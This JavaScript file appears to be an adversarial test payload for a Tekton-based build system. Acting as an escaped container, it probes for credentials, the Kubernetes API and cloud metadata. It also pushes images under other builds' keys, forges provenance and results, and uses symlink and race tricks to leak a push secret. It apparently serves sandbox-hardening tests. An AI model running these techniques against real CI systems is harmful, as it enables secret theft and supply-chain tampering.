// Code of a ref that has left the sandbox and is root of the user namespace in which the container `run` lives, and which `node --eval` runs in its place: tries what can be tried
// there, and tells what it got as "LOOT: …". Its argument says what, as JSON: {attack, remote, namespace, others}.
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import { connect } from 'node:net';

const { attack, remote, namespace, others } = JSON.parse(process.argv[1]);
const secret = '/etc/tributary-push/auth.json';
const out = '/pod/out';
const tell = (text) => process.stdout.write(`${text}\n`);
const loot = (text) => tell(`LOOT: ${text}`);
const referenceFile = (reference) =>
  `${out}/registry/references/${createHash('sha256').update(reference).digest('hex')}`;

// The unit is made as always, so that there is something to change.
const made = spawnSync('tributary', ['task', 'run'], { stdio: 'inherit' });
tell(`the unit ended with ${made.status}`);
const own = JSON.parse(
  fs.readFileSync(
    fs
      .readdirSync(`${out}/registry/references`)
      .map((name) => `${out}/registry/references/${name}`)
      .find((file) => fs.readFileSync(file, 'utf8').includes(`/${attack}:key-`)),
    'utf8',
  ),
);

await { look, links, pipe, linger }[attack]();
tell('everything was tried');

/** Whatever can be seen and reached; and what `push` finds there afterwards. */
async function look() {
  lookForSecrets();
  reachForMore();
  await Promise.all([askCluster(), askMetadata(), askRegistry()]);
  plant();
}

function lookForSecrets() {
  for (const path of [secret, '/etc/tributary-push', '/etc/tributary-pull', '/etc/tributary-git'])
    if (fs.existsSync(path)) loot(path);
  if (fs.existsSync('/var/run/secrets/kubernetes.io')) loot('a token');
  const found = spawnSync('grep', ['-rlsI', '"auths"', '/etc', '/tekton', '/pod', '/var', '/root']);
  if (`${found.stdout}` !== '') loot(`credentials in ${found.stdout}`);
  for (const name of fs.readdirSync('/proc').filter((one) => /^\d+$/.test(one))) {
    const file = `/proc/${name}/cmdline`;
    const command = fs.existsSync(file) ? fs.readFileSync(file, 'latin1') : '';
    if (/task\0(fetch|push)/.test(command)) loot(`process ${command}`);
  }
}

/** Folders of others, and rights that the container does not have. */
function reachForMore() {
  const places = [
    ...[
      '/pod/in',
      '/pod/in/registry',
      '/etc/tributary',
      '/tekton/bin',
      '/tekton/steps',
      '/tekton/downward',
    ],
    ...['/tekton/run/0', '/tekton/run/2', '/proc/sys/kernel', '/sys/fs/cgroup', '/sys/kernel'],
  ];
  for (const place of places) {
    try {
      fs.writeFileSync(`${place}/planted`, '');
      loot(`may write into ${place}`);
    } catch {}
  }
  for (const command of [
    ['mount', '-t', 'tmpfs', 'none', '/mnt'],
    ['mount', '-o', 'remount,rw', '/pod/in'],
    ['umount', '/proc/kcore'],
    ['mknod', '/tmp/disk', 'b', '8', '0'],
    ['nsenter', '--target', '1', '--net', 'true'],
    ['chown', '1', '/tmp'],
    ['hostname', 'planted'],
  ])
    if (spawnSync(command[0], command.slice(1)).status === 0) loot(command.join(' '));
  try {
    process.kill(1, 0);
    loot("may end Tekton's program");
  } catch {}
  // What it is root of: nothing that the container's root has.
  const ids = fs.readFileSync('/proc/self/uid_map', 'utf8');
  if (!/^ *0 +1 +65535\n$/.test(ids)) loot(`ids ${ids}`);
}

async function askCluster() {
  process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
  const { KUBERNETES_SERVICE_HOST: host, KUBERNETES_SERVICE_PORT: port } = process.env;
  const path = `https://${host}:${port}/api/v1/namespaces/${namespace}`;
  for (const what of ['secrets/tributary-push', 'pods', 'configmaps']) {
    const answer = await reach(`${path}/${what}`);
    tell(`the API server answers ${answer?.status} for ${what}`);
    if (answer?.ok) loot(`the API server gives ${what}`);
  }
}

function askMetadata() {
  return new Promise((resolve) => {
    const socket = connect(80, '169.254.169.254', () => loot('the metadata address answers'));
    socket.setTimeout(1000, () => socket.destroy());
    socket
      .on('error', () => {})
      .on('close', resolve)
      .on('connect', () => socket.destroy());
  });
}

/** Pushing, also under another build's key, and removing, as anybody may. */
async function askRegistry() {
  const [host, ...path] = remote.split('/');
  const base = `http://${host}/v2/${path.join('/')}`;
  const manifest = fs.readFileSync(`${out}/registry/blobs/${own.digest.replace(':', '/')}`);
  const headers = { 'content-type': own.mediaType };
  for (const [method, url, body] of [
    ['POST', `${base}/${attack}/blobs/uploads/`],
    ['PUT', `${base}/${attack}/manifests/planted`, manifest],
    ...others.map((other) => [
      'PUT',
      other.replace(/^[^/]*(.*):([^:]*)$/, `http://${host}/v2$1/manifests/$2`),
      manifest,
    ]),
    ['DELETE', `${base}/base/manifests/${own.digest}`],
  ]) {
    const first = await reach(url, { method, body, headers });
    const challenge = first?.headers.get('www-authenticate') ?? '';
    const { realm, service, scope } = Object.fromEntries(
      [...challenge.matchAll(/(\w+)="([^"]*)"/g)].map(([, name, value]) => [name, value]),
    );
    const query = new URLSearchParams({ service, scope });
    const granted = await (await reach(`${realm}?${query}`))?.json().catch(() => undefined);
    const authorization = `Bearer ${granted?.token}`;
    const second = await reach(url, { method, body, headers: { ...headers, authorization } });
    tell(`the registry answers ${first?.status}, then ${second?.status} to ${method} ${url}`);
    if (first?.ok || second?.ok) loot(`${method} ${url}`);
  }
}

function reach(url, init = {}) {
  return fetch(url, { ...init, signal: AbortSignal.timeout(5000) }).catch(() => undefined);
}

/** Results, configurations and messages of others. */
function plant() {
  const evil = `sha256:${'e'.repeat(64)}`;
  const planted = {
    '/tekton/results/IMAGE_URL': 'registry.example.com/planted',
    '/tekton/results/IMAGE_DIGEST': evil,
    '/tekton/results/IMAGES': `registry.example.com/planted@${evil}`,
    '/tekton/artifacts/provenance.json': JSON.stringify({ outputs: [{ name: 'planted' }] }),
    '/tekton/home/.docker/config.json': '{"auths": {}, "credsStore": "planted"}',
    '/tekton/home/.gitconfig': '[core]\n\tsshCommand = false\n',
  };
  for (const [file, text] of Object.entries(planted)) {
    fs.mkdirSync(file.replace(/\/[^/]*$/, ''), { recursive: true });
    fs.writeFileSync(file, text);
  }
  const at = new Date().toISOString();
  const output = {
    kind: 'image',
    key: 'e'.repeat(64),
    reused: false,
    digest: evil,
    image: `planted@${evil}`,
  };
  const messages = [`image/${attack}`, 'image/pry', 'bundle']
    .map((step) => ({ at, kind: 'step-finished', step, output }))
    .concat({ at, kind: 'step-failed', step: 'image/pry', failures: [] });
  for (const message of messages) {
    const line = JSON.stringify(message);
    fs.appendFileSync(`${out}/messages.jsonl`, `${line}\n`);
    tell(`::tributary:: ${line}`);
  }
  fs.writeFileSync(`${out}/logs/image~pry.log`, 'planted\n');
  for (const reference of others)
    fs.writeFileSync(referenceFile(reference), JSON.stringify({ ...own, reference }));
}

/** A layer that is a link to what `push` alone can read. */
function links() {
  const manifest = JSON.parse(
    fs.readFileSync(`${out}/registry/blobs/${own.digest.replace(':', '/')}`, 'utf8'),
  );
  const layer = `${out}/registry/blobs/${manifest.layers.at(-1).digest.replace(':', '/')}`;
  fs.rmSync(layer);
  fs.symlinkSync(secret, layer);
}

/** Messages that never end, and a log that is a link. */
function pipe() {
  fs.rmSync(`${out}/messages.jsonl`);
  spawnSync('mkfifo', [`${out}/messages.jsonl`]);
  const log = `${out}/logs/image~${attack}.log`;
  fs.rmSync(log);
  fs.symlinkSync(secret, log);
}

/** Says that it is over while it is not, and puts links to the push secret wherever Tekton reads when `push` ends. */
async function linger() {
  const files = ['IMAGE_URL', 'IMAGE_DIGEST', 'IMAGES'].map((name) => `/tekton/results/${name}`);
  files.push('/tekton/artifacts/provenance.json');
  fs.writeFileSync('/tekton/run/1/out', '');
  for (const until = Date.now() + 60_000; Date.now() < until; ) {
    for (const file of files) {
      try {
        fs.rmSync(`${file}.new`, { force: true });
        fs.symlinkSync(secret, `${file}.new`);
        fs.renameSync(`${file}.new`, file);
      } catch {}
    }
    if (fs.existsSync('/tekton/run/2/out')) break;
    await new Promise((done) => setTimeout(done, 1));
  }
}
